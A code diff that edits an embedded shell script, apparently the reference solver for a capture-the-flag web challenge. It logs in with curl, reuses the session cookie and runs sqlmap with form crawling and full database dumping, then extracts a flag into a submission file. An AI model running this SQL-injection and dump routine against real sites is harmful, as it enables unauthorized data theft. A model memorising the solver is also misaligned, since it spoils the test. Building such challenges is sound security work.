@@ -64,9 +64,11 @@ _SQLMAP = r"""
 command -v sqlmap >/dev/null || exit 127
 curl -s -c /tmp/jar -o /dev/null --data "login=$2&password=$3" "$1sign-in"
 cookie=$(awk '!/^# /{if(NF>=7) printf "%s=%s", $6, $7}' /tmp/jar | sed 's/#HttpOnly_//')
-sqlmap -u "$1" --cookie="$cookie" --crawl=2 --forms --batch --level=1 --risk=1 --dbms=SQLite --dump-all \
-  --flush-session --output-dir=/tmp/map --disable-coloring >/tmp/map.log 2>&1
-grep -rhoE 'flag\{[a-z2-7]{26}\}' /tmp/map /tmp/map.log 2>/dev/null | head -n 1 > /submission/flag
+sqlmap -u "$1" --cookie="$cookie" --crawl=2 --crawl-exclude=sign --forms --batch --level=1 --risk=1 \
+  --dbms=SQLite --dump-all --flush-session --output-dir=/tmp/map --disable-coloring >/tmp/map.log 2>&1
+flag='flag\{[a-z2-7]{26}\}'
+grep -rhE "$flag" /tmp/map /tmp/map.log 2>/dev/null | grep -v withdrawn |
+  grep -oE "$flag" | head -n 1 > /submission/flag
 [ -s /submission/flag ] || rm -f /submission/flag
 """
 
